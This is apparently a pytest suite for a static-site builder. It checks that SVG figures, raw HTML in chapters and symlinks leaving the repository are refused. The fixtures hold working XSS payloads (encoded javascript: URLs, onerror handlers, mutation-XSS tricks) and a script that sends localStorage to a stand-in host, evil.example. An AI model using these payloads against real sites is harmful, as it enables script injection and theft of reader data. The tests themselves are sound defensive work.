"""Input that would publish a file from outside the repository, run a script at the site's origin, or
send a reader elsewhere is refused: `file:line: what is wrong`, exit 1, and the previous site/ kept.

Each case is one attack from a security review of the build (symbolic links out of the repository, an
SVG figure that runs or fetches, raw HTML that an encoding or a missing space walked past)."""
import os
import subprocess
import sys

import pytest

from builder import BuildError, build_site
from builder.svg_check import svg_problems
from tests.build.book_maker import make_book
from tests.build.test_failed_build import GOOD, _fingerprint
from tests.conftest import ROOT, fixture_config

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">\n'
FIGURE_CHAPTER = "Text.\n\n![A chart](figures/chart.svg)\n"

# (name, the figure's text, the expected problem's start)
SVG_ATTACKS = [
    ("svg script", SVG + "<title>t</title>\n<script>localStorage.clear()</script>\n</svg>\n",
     "content/figures/chart.svg:3: a <script> element"),
    ("svg onload handler", SVG.replace("viewBox", 'onload="steal()" viewBox') + "</svg>\n",
     "content/figures/chart.svg:1: an event-handler attribute onload="),
    ("svg handler on a shape", SVG + '<rect width="5" height="5"\n onclick="steal()"/>\n</svg>\n',
     "content/figures/chart.svg:2: an event-handler attribute onclick="),
    ("svg javascript link", SVG + '<a href="javascript:steal()"><text>x</text></a>\n</svg>\n',
     "content/figures/chart.svg:2: <a href=...> holds a script URL"),
    ("svg entity-encoded javascript link", SVG + '<a xlink:href="&#106;ava&#x09;script:steal()"><text>x</text></a>\n</svg>\n',
     "content/figures/chart.svg:2: <a href=...> holds a script URL"),
    ("svg image from another origin", SVG + '<image href="https://evil.example/pixel.png"/>\n</svg>\n',
     "content/figures/chart.svg:2: <image href='https://evil.example/pixel.png'> refers outside"),
    ("svg use of another file", SVG + '<use xlink:href="//evil.example/a.svg#x"/>\n</svg>\n',
     "content/figures/chart.svg:2: <use href='//evil.example/a.svg#x'> refers outside"),
    ("svg css url to another origin", SVG + '<style>\n.a { fill: url(https://evil.example/p) }\n</style>\n</svg>\n',
     "content/figures/chart.svg:4: a CSS url('https://evil.example/p') outside the figure"),
    ("svg css escaped url", SVG + '<rect style="fill: u\\72l(//evil.example/p)"/>\n</svg>\n',
     "content/figures/chart.svg:2: a CSS url('//evil.example/p') outside the figure"),
    ("svg css import", SVG + '<style>@import "https://evil.example/a.css";</style>\n</svg>\n',
     "content/figures/chart.svg:2: a CSS @import"),
    ("svg css image-set", SVG + '<style>rect { fill: -webkit-image-set("https://evil.example/p.png" 1x) }</style>\n</svg>\n',
     "content/figures/chart.svg:2: a CSS image-set(...)"),
    ("svg foreignObject", SVG + '<foreignObject width="5" height="5"><p xmlns="http://www.w3.org/1999/xhtml">x</p>'
                                '</foreignObject>\n</svg>\n',
     "content/figures/chart.svg:2: a <foreignObject> element"),
    ("svg animation that rewrites a link", SVG + '<a href="#x"><set attributeName="href" to="&#106;avascript:x()"/>'
                                                 '<text>x</text></a>\n</svg>\n',
     "content/figures/chart.svg:2: <set> changes a link"),
    ("svg stylesheet instruction", '<?xml-stylesheet href="https://evil.example/a.css"?>\n' + SVG + "</svg>\n",
     "content/figures/chart.svg:1: a processing instruction"),
    ("svg doctype with entities", '<!DOCTYPE svg [<!ENTITY s "x">]>\n' + SVG + "<text>&s;</text></svg>\n",
     "content/figures/chart.svg:1: a DOCTYPE"),
]

# (name, chapter text, expected problem's start): each one walked past the check before.
HTML_ATTACKS = [
    ("html handler after a slash", "Text.\n\n<div>\n<img/onerror=alert(1) src=x>\n</div>\n",
     "content/a.md:3: raw HTML 'onerror'"),
    ("html entity-encoded javascript", 'Text.\n\n<div><a href="&#106;avascript:alert(1)">x</a></div>\n',
     "content/a.md:3: raw HTML href='javascript:alert(1)'"),
    ("html javascript with a tab reference", 'Text.\n\n<div><a href="java&#x09;script:alert(1)">x</a></div>\n',
     "content/a.md:3: raw HTML href='javascript:alert(1)'"),
    ("html javascript with named references", 'A <a href="&#x6A;ava&NewLine;script&colon;alert(1)">link</a>.\n',
     "content/a.md:1: raw HTML href='javascript:alert(1)'"),
    ("html form", 'Text.\n\n<form action="https://evil.example/"><input name="code"></form>\n',
     "content/a.md:3: raw HTML <form> is not allowed"),
    ("html base", 'Text.\n\n<base href="https://evil.example/">\n', "content/a.md:3: raw HTML <base> is not allowed"),
    ("html link", 'Text.\n\n<link rel="prefetch" href="https://evil.example/">\n',
     "content/a.md:3: raw HTML <link> is not allowed"),
    ("html meta refresh", 'Text.\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
     "content/a.md:3: raw HTML <meta> is not allowed"),
    ("html in a simulation's caption", "Text.\n\n```sim counter\nworkers: 2\n---\nA caption\nwith <img src=x onerror=alert(1)>.\n```\n",
     "content/a.md:6: raw HTML 'onerror'"),
    ("html tag left open into the next block", "Text.\n\n<div>\n<img src=x\n\nonerror=alert(1)>\n",
     "content/a.md:3: raw HTML ends inside a tag"),
]


def _book_with_figure(tmp_path, svg: str):
    book = make_book(tmp_path / "book", {**GOOD, "b.md": FIGURE_CHAPTER})
    (book / "content" / "figures").mkdir()
    (book / "content" / "figures" / "chart.svg").write_text(svg, encoding="utf-8")
    return book


def _refused(book, site, expected: str, **config) -> list[str]:
    """Build `book` over an earlier good `site`; assert the failure names `expected` and kept the site."""
    before = _fingerprint(site)
    with pytest.raises(BuildError) as failure:
        build_site(fixture_config(site, root=book, **config))
    found = [str(p) for p in failure.value.problems]
    assert any(p.startswith(expected) for p in found), found
    assert _fingerprint(site) == before
    return found


def _good_site(tmp_path):
    site = tmp_path / "site"
    build_site(fixture_config(site, root=make_book(tmp_path / "good", GOOD)))
    return site


@pytest.mark.parametrize("name,svg,expected", SVG_ATTACKS, ids=[a[0] for a in SVG_ATTACKS])
def test_an_svg_figure_that_runs_or_fetches_is_refused_at_its_line(tmp_path, name, svg, expected):
    _refused(_book_with_figure(tmp_path, svg), _good_site(tmp_path), expected)


@pytest.mark.parametrize("name,chapter,expected", HTML_ATTACKS, ids=[a[0] for a in HTML_ATTACKS])
def test_raw_html_that_walked_past_the_check_is_refused_at_its_line(tmp_path, name, chapter, expected):
    _refused(make_book(tmp_path / "book", {**GOOD, "a.md": chapter}), _good_site(tmp_path), expected)


def test_a_figure_with_only_drawing_text_styles_and_inner_references_builds(tmp_path):
    svg = (SVG + '<title>t</title>\n<defs><linearGradient id="g"/><clipPath id="c"/></defs>\n'
           '<style>.a { fill: url(#g) } @media (prefers-color-scheme: dark) { .a { fill: #fff } }</style>\n'
           '<rect class="a" clip-path="url(#c)" fill="url(\'#g\')" style="stroke: #000"/>\n'
           '<use href="#g"/><a href="#c"><text>on=1, javascript is only a word here</text></a>\n</svg>\n')
    build_site(fixture_config(tmp_path / "site", root=_book_with_figure(tmp_path, svg)))
    assert (tmp_path / "site" / "figures" / "chart.svg").read_text() == svg


def test_the_guide_s_own_figures_hold_nothing_to_refuse():
    figures = sorted((ROOT / "content" / "figures").glob("*.svg"))
    assert figures
    assert {f.name: svg_problems(f.read_bytes()) for f in figures} == {f.name: [] for f in figures}


SECRET = "the reader's private key\n"
LINKS = [   # (name, the link inside the book, what it points at, expected problem's start)
    ("file in code", "code/notes.py", "secret.txt", "code/notes.py: a symbolic link to "),
    ("folder in code", "code/more", "outside", "code/more: a symbolic link to "),
    ("figure", "content/figures/chart.svg", "secret.svg", "content/figures/chart.svg: a symbolic link to "),
    ("chapter", "content/c.md", "secret.txt", "content/c.md: a symbolic link to "),
    ("simulations file", "simulations/extra.py", "secret.txt", "simulations/extra.py: a symbolic link to "),
]


@pytest.mark.parametrize("name,link,target,expected", LINKS, ids=[l[0] for l in LINKS])
def test_a_symbolic_link_out_of_the_repository_is_refused(tmp_path, name, link, target, expected):
    outside = tmp_path / "elsewhere"
    (outside / "outside").mkdir(parents=True)
    (outside / "secret.txt").write_text(SECRET)
    (outside / "outside" / "key.txt").write_text(SECRET)
    (outside / "secret.svg").write_text(SVG + "<title>a secret</title></svg>\n")
    book = make_book(tmp_path / "book", {**GOOD, "b.md": FIGURE_CHAPTER})
    (book / "content" / "figures").mkdir()
    (book / "content" / "figures" / "chart.svg").write_text(SVG + "<title>a chart</title></svg>\n")
    (book / "simulations").mkdir()
    site = _good_site(tmp_path)
    path = book / link
    path.unlink(missing_ok=True)
    os.symlink(outside / target, path)
    found = _refused(book, site, expected, simulations_dir=book / "simulations")
    assert "outside the repository" in next(p for p in found if p.startswith(expected))
    assert not [p for p in tmp_path.rglob("*") if ".new-" in p.name]


def test_an_included_file_that_links_out_is_refused_at_the_chapter_line(tmp_path):
    (tmp_path / "secret.py").write_text("KEY = 'private'\n")
    book = make_book(tmp_path / "book", {**GOOD, "a.md": "Intro.\n\n```include code/notes.py\n```\n"})
    os.symlink(tmp_path / "secret.py", book / "code" / "notes.py")
    found = _refused(book, _good_site(tmp_path), "content/a.md:3: 'code/notes.py': a symbolic link out of the repository")
    assert "code/notes.py: a symbolic link to " + str(tmp_path / "secret.py") in " ".join(found)


def test_a_symbolic_link_that_stays_inside_the_repository_builds(tmp_path):
    book = make_book(tmp_path / "book", GOOD, code={"ex.py": "X = 1\n"})
    os.symlink("ex.py", book / "code" / "same.py")
    os.symlink(book / "content", book / "code" / "chapters")
    build_site(fixture_config(tmp_path / "site", root=book))
    assert (tmp_path / "site" / "code" / "same.py").read_text() == "X = 1\n"


def test_command_line_refuses_a_figure_with_a_script_exits_1_and_keeps_the_site(tmp_path):
    book = _book_with_figure(tmp_path, SVG + "<script>alert(1)</script></svg>\n")
    site = _good_site(tmp_path)
    before = _fingerprint(site)
    run = subprocess.run([sys.executable, str(ROOT / "build.py"), "--root", str(book), "--out", str(site)],
                         capture_output=True, text=True, cwd=ROOT)
    assert run.returncode == 1
    assert run.stderr.splitlines()[0].startswith("content/figures/chart.svg:2: a <script> element"), run.stderr
    assert _fingerprint(site) == before


@pytest.mark.parametrize("name", ["code/notes.html", "code/capstone/diagram.svg", "simulations/view.xhtml",
                                  "code/INDEX.HTM"])
def test_a_page_or_drawing_in_a_folder_copied_whole_is_refused(tmp_path, name):
    book = make_book(tmp_path / "book", GOOD)
    (book / name).parent.mkdir(parents=True, exist_ok=True)
    (book / name).write_text("<html><script>fetch('//evil.example/?' + JSON.stringify(localStorage))</script></html>")
    found = _refused(book, _good_site(tmp_path), f"{name}: a browser would open this file as a page of the site",
                     simulations_dir=book / "simulations")
    assert sum("a browser would open" in p for p in found) == 1, found


def test_python_text_and_hidden_files_in_the_copied_folders_build(tmp_path):
    book = make_book(tmp_path / "book", GOOD, code={"ex.py": "X = 1\n", "requirements.txt": "psycopg==3.2.3\n",
                                                    ".scratch.html": "<script></script>"})
    build_site(fixture_config(tmp_path / "site", root=book))
    assert sorted(p.name for p in (tmp_path / "site" / "code").iterdir() if p.suffix != ".json") == [
        "ex.py", "requirements.txt"]


MUTATIONS = [   # a tag hidden in what this parser reads as an attribute, and a browser as text then a tag
    ("xmp", '<div><xmp><p title="</xmp><a href=javascript:alert(1)>x</a>"></div>\n'),
    ("noscript", '<div><noscript><p title="</noscript><a href=javascript:alert(1)>x</a>"></noscript></div>\n'),
    ("textarea", '<div><textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea></div>\n'),
]


@pytest.mark.parametrize("name,chapter", MUTATIONS, ids=[m[0] for m in MUTATIONS])
def test_a_tag_hidden_in_a_raw_text_element_is_refused(tmp_path, name, chapter):
    found = _refused(make_book(tmp_path / "book", {**GOOD, "a.md": "Text.\n\n" + chapter}), _good_site(tmp_path),
                     f"content/a.md:3: raw HTML <{name}> is not allowed in a chapter")
    assert len([p for p in found if p.startswith("content/a.md:3:")]) == 2, found   # and the second net
